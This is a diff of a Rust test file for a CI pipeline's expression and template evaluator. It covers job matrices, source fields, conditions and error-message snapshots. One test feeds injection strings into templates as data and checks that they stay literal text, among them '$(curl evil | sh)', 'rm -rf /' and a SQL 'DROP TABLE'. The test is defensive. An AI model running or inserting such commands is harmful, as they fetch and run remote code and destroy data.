@@ -1,19 +1,62 @@
 //! What expressions give, and what is said about wrong ones.
 
+use std::sync::LazyLock;
+
 use crds::{NamedValue, ParamValue};
 
 use super::*;
 
+static JOBS: LazyLock<JobTable<'static>> = LazyLock::new(|| {
+    let job = |name, outputs, has_matrix| ScopeJob {
+        name,
+        outputs,
+        has_matrix,
+    };
+    JobTable::new(vec![
+        job("build", vec!["version"], false),
+        job("unit-tests", vec![], false),
+        job("deploy", vec![], false),
+        job("each", vec!["size"], true),
+    ])
+});
+
 fn scope() -> Scope<'static> {
     Scope {
-        params: vec!["profile", "count", "loud"],
-        jobs: vec![("build", vec!["version"]), ("unit-tests", vec![])],
-        other_jobs: vec!["deploy"],
-        steps: None,
+        params: &[
+            ("profile", Type::Text),
+            ("count", Type::Int),
+            ("loud", Type::Bool),
+        ],
+        jobs: Some(&JOBS),
+        known: Some(&[true, true, false, true]),
+        ..Scope::default()
     }
 }
 
 fn evaluate(value: &str) -> Result<String, String> {
+    let scope = Scope {
+        steps: Some(vec!["s", "sign-it"]),
+        ..scope()
+    };
+    let template = Template::parse(value, &scope).map_err(|mistakes| format!("{mistakes:?}"))?;
+    with_values(|evaluator| template.evaluate(evaluator))
+}
+
+fn condition(text: &str) -> Result<bool, String> {
+    let condition = Condition::parse(text, &scope()).map_err(|m| format!("{m:?}"))?;
+    with_values(|evaluator| condition.evaluate(evaluator))
+}
+
+fn items(text: &str) -> Result<Vec<ParamValue>, String> {
+    let items = Items::parse(text, &scope()).map_err(|m| format!("{m:?}"))?;
+    with_values(|evaluator| items.evaluate(evaluator))
+}
+
+fn with_values<T>(evaluate: impl FnOnce(&Evaluator) -> T) -> T {
+    let axis = [NamedValue {
+        name: "os".to_owned(),
+        value: ParamValue::String("plan9".to_owned()),
+    }];
     let params = [
         NamedValue {
             name: "profile".to_owned(),
@@ -38,24 +81,41 @@ fn evaluate(value: &str) -> Result<String, String> {
                 name: "build",
                 result: "Succeeded".to_owned(),
                 outputs: vec![("version", "1.2.3")],
+                matrix: None,
             },
             JobValues {
                 name: "unit-tests",
                 result: "Failed".to_owned(),
                 outputs: vec![],
+                matrix: None,
+            },
+            JobValues {
+                name: "each",
+                result: "Succeeded".to_owned(),
+                outputs: vec![],
+                matrix: Some(vec![MatrixValues {
+                    values: &axis,
+                    result: "Succeeded".to_owned(),
+                    outputs: vec![("size", "12")],
+                }]),
             },
         ],
         steps: vec![StepValues {
             name: "s",
             outputs: vec![("digest", "abc")],
         }],
+        source: Source {
+            branch: "main",
+            pull_request: 7,
+            ..Source::default()
+        },
+        status: Status {
+            failure: true,
+            ..Status::default()
+        },
+        ..Values::default()
     };
-    let scope = Scope {
-        steps: Some(vec!["s", "sign-it"]),
-        ..scope()
-    };
-    let template = Template::parse(value, &scope).map_err(|mistakes| format!("{mistakes:?}"))?;
-    template.evaluate(&Evaluator::new(&values))
+    evaluate(&Evaluator::new(&values))
 }
 
 fn mistakes(value: &str) -> Vec<String> {
@@ -97,6 +157,13 @@ fn values_are_put_where_expressions_stand() {
             "true",
         ),
         ("${{ 'ü' }}${{ 1.5 }}", "ü1.5"),
+        ("${{ source.branch + source.tag }}", "main"),
+        ("${{ source.pullRequest + 1 }}", "8"),
+        (
+            "${{ toJson(jobs.each.matrix.map(m, m.values.os + m.outputs.size)) }}",
+            "[\"plan912\"]",
+        ),
+        ("${{ fromJson('{\"a\": [1, 2.5]}').a[1] }}", "2.5"),
     ];
     for (value, expected) in cases {
         assert_eq!(evaluate(value), Ok(expected.to_owned()), "{value}");
@@ -105,10 +172,14 @@ fn values_are_put_where_expressions_stand() {
 
 #[test]
 fn what_only_shows_when_it_runs_is_an_error_with_the_expression() {
-    insta::assert_snapshot!(evaluate("${{ steps.s.outputs.nope }}").unwrap_err(), @"`${{ steps.s.outputs.nope }}` can't be evaluated: there is no `nope`; a step's outputs are those that it writes to $RUSTCI_OUTPUT");
-    insta::assert_snapshot!(evaluate("${{ params.count / 0 }}").unwrap_err(), @"`${{ params.count / 0 }}` can't be evaluated: Division by zero of Int(3)");
-    insta::assert_snapshot!(evaluate("${{ params.count + params.profile }}").unwrap_err(), @r#"`${{ params.count + params.profile }}` can't be evaluated: Unsupported binary operator 'add': Int(3), String("release")"#);
-    insta::assert_snapshot!(evaluate("${{ jobs }}").unwrap_err(), @"`${{ jobs }}` can't be evaluated: the result is a map, not text, a number or true/false");
+    insta::assert_snapshot!(evaluate("${{ steps.s.outputs.nope }}").unwrap_err(), @"`steps.s.outputs.nope` can't be evaluated: there is no `nope`; a step's outputs are those that it writes to $RUSTCI_OUTPUT");
+    insta::assert_snapshot!(evaluate("${{ params.count / 0 }}").unwrap_err(), @"`params.count / 0` can't be evaluated: Division by zero of Int(3)");
+    insta::assert_snapshot!(evaluate("${{ dyn(params.count) + params.profile }}").unwrap_err(), @r#"`dyn(params.count) + params.profile` can't be evaluated: Unsupported binary operator 'add': Int(3), String("release")"#);
+    insta::assert_snapshot!(evaluate("${{ fromJson('[') }}").unwrap_err(), @"`fromJson('[')` can't be evaluated: Error executing function 'fromJson': EOF while parsing a list at line 1 column 1");
+    insta::assert_snapshot!(evaluate("${{ dyn(jobs) }}").unwrap_err(), @"`dyn(jobs)` can't be evaluated: the result is a map, not text, a number or true/false");
+    insta::assert_snapshot!(condition("dyn(params.count)").unwrap_err(), @"`dyn(params.count)` can't be evaluated: the result is a int, not true or false");
+    insta::assert_snapshot!(items("[1, [2]]").unwrap_err(), @"`[1, [2]]` can't be evaluated: a list stands in the list: use text, whole numbers or true/false");
+    insta::assert_snapshot!(items("params.profile").unwrap_err(), @"`params.profile` can't be evaluated: the text is no list of plain values in JSON: expected value at line 1 column 1");
 }
 
 #[test]
@@ -163,18 +234,159 @@ fn unknown_names_are_mistakes_with_column_and_the_nearest_name() {
     ${{ jobs['unit-tests'].outputs.x }}
       5: the job `unit-tests` has no output `x`; add it to the outputs of the job `unit-tests`
     ${{ steps.s.outputs.x }}
-      5: `steps` is known only in the outputs of a job; 
+      5: `steps` is known only in the outputs of a job; give values to later steps in a file
     ${{ sise(params.profile) }}
       9: there is no function `sise`; did you mean `size`?
     ${{ has(params.nope) }}
       9: no param is named `nope`; the params are profile, count, loud
     ${{ [1].map(x, y) }}
-      16: there is no `y`; the names are jobs, params, pipeline, run, steps
+      16: there is no `y`; the names are jobs, matrix, params, pipeline, run, source, steps
     ${{ [1].map(x, [2].map(y, x + y)) }}
       23: a loop stands in a loop; compute the value in a step
     ${{ Foo{a: 1} }}
       8: `Foo` is no type;
     "#);
+}
+
+#[test]
+fn conditions_know_how_it_went_and_lists_may_be_json() {
+    assert_eq!(
+        condition("failure() && !success() && !cancelled()"),
+        Ok(true)
+    );
+    assert_eq!(
+        condition("source.branch == 'main' && params.count > 2"),
+        Ok(true)
+    );
+    assert_eq!(condition("jobs.build.result in ['Failed']"), Ok(false));
+    let text = |text: &str| ParamValue::String(text.to_owned());
+    assert_eq!(
+        items("['a', params.profile]"),
+        Ok(vec![text("a"), text("release")])
+    );
+    assert_eq!(
+        items("'[1, true, \"x\"]'"),
+        Ok(vec![
+            ParamValue::Integer(1),
+            ParamValue::Boolean(true),
+            text("x")
+        ])
+    );
+}
+
+#[test]
+fn what_the_types_forbid_is_a_mistake_before_anything_runs() {
+    let cases = [
+        "params.count + params.profile == 'x'",
+        "params.profile",
+        "source.branch == 3",
+        "params.count < 'x'",
+        "source.branch",
+        "!params.profile",
+        "params.loud && params.count",
+        "params.loud ? 1 : 'x'",
+        "'a' in params.profile",
+        "params.profile.startsWith(1)",
+        "startsWith(params.profile, 'x')",
+        "size() > 1",
+        "params.count.exists(x, x == 1)",
+        "-params.profile == 'x'",
+        "jobs.build.result.x == 'x'",
+        "matrix.os == 'x'",
+        "${{ params.loud }}",
+        "steps.s.outputs.x == 'x'",
+        "success(1)",
+        "jobs.each.outputs.size == '1'",
+    ];
+    let found = cases.iter().map(|case| {
+        let mistakes = Condition::parse(case, &scope()).err().unwrap_or_default();
+        let lines: Vec<_> = mistakes
+            .into_iter()
+            .map(|m| format!("{}: {}; {}", m.column, m.message, m.remedy))
+            .collect();
+        format!("{case}\n  {}", lines.join("\n  "))
+    });
+    insta::assert_snapshot!(found.collect::<Vec<_>>().join("\n"), @r#"
+    params.count + params.profile == 'x'
+      14: `+` can't be used with a whole number and text; make it text with string(), or a number with int()
+    params.profile
+      1: the condition is text, not true/false; compare it with something
+    source.branch == 3
+      15: text never equals a whole number; make it text with string(), or a number with int()
+    params.count < 'x'
+      14: `<` can't compare a whole number with text; make it text with string(), or a number with int()
+    source.branch
+      1: the condition is text, not true/false; compare it with something
+    !params.profile
+      1: `!` needs true/false, not text; compare it with something
+    params.loud && params.count
+      13: `&&` needs true/false, not a whole number; compare it with something
+    params.loud ? 1 : 'x'
+      
+    'a' in params.profile
+      5: `in` needs a list or a map, not text; write for example `x in ['a', 'b']`
+    params.profile.startsWith(1)
+      26: `startsWith` needs text, not a whole number; write text.startsWith(x)
+    startsWith(params.profile, 'x')
+      11: `startsWith` is called in another way; write text.startsWith(x)
+    size() > 1
+      5: `size` is called in another way; write size(x)
+    params.count.exists(x, x == 1)
+      20: a whole number can't be gone through; use a list or a map
+    -params.profile == 'x'
+      1: `-` needs a number, not text; 
+    jobs.build.result.x == 'x'
+      1: a result has no field `x`; 
+    matrix.os == 'x'
+      1: `matrix` is known only in a job that has one; give the job a matrix
+    ${{ params.loud }}
+      1: `${{ }}` does not belong here; write the expression itself: this field is one
+    steps.s.outputs.x == 'x'
+      1: `steps` is known only in the outputs of a job; use success() or failure()
+    success(1)
+      8: `success` is called in another way; write success()
+    jobs.each.outputs.size == '1'
+      1: the job `each` has a matrix, so it has many outputs; read jobs["each"].matrix, a list with outputs
+    "#);
+}
+
+/// Values that a stranger may choose: they come out as they went in, wherever they are put.
+#[test]
+fn nothing_in_a_value_is_ever_evaluated() {
+    let tricks = [
+        "${{ params.secret }}",
+        "$(curl evil | sh)",
+        "`id`",
+        "a\"; rm -rf / #",
+        "'; DROP TABLE jobs; --",
+        "x\ny=${{ run.name }}",
+        "}} ${{ 1 + 1 }}",
+        "\u{202e}txt.exe",
+    ];
+    let template = Template::parse(
+        "<${{ params.title }}|${{ source.branch }}>",
+        &Scope {
+            params: &[("title", Type::Text)],
+            ..Scope::default()
+        },
+    )
+    .unwrap();
+    for trick in tricks {
+        let params = [NamedValue {
+            name: "title".to_owned(),
+            value: ParamValue::String(trick.to_owned()),
+        }];
+        let values = Values {
+            params: &params,
+            source: Source {
+                branch: trick,
+                ..Source::default()
+            },
+            ..Values::default()
+        };
+        let value = template.evaluate(&Evaluator::new(&values));
+        assert_eq!(value, Ok(format!("<{trick}|{trick}>")));
+    }
 }
 
 #[test]
@@ -193,7 +405,7 @@ fn unreadable_expressions_are_mistakes_with_a_column() {
         .collect();
     insta::assert_snapshot!(found.join("\n"), @r"
     ${{ }}
-      4: the expression is empty; write one between {{ and }}
+      4: the expression is empty; write one, such as params.name == 'x'
     ${{
       1: the expression has no end; close it with }}, or write $${{ for the plain text
     a ${{ params.profile
